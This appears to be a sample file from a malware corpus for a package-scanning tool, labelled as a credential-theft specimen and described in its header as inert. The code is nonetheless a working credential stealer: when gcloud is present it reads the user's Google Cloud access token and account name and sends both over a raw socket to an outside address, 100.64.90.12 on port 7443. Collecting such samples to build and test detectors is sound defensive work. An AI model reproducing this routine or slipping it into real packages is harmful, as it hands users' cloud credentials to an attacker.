# pkgguard corpus 790 (credentials), modelled on [developer-persistence]; inert, never run.
import shutil
import socket
import subprocess

if shutil.which("gcloud"):
    token = subprocess.check_output(["gcloud", "auth", "print-access-token"], text=True).strip()
    account = subprocess.check_output(["gcloud", "config", "get-value", "account"], text=True).strip()
    with socket.create_connection(("100.64.90.12", 7443), timeout=10) as conn:
        conn.sendall(f"{account}\t{token}\n".encode())
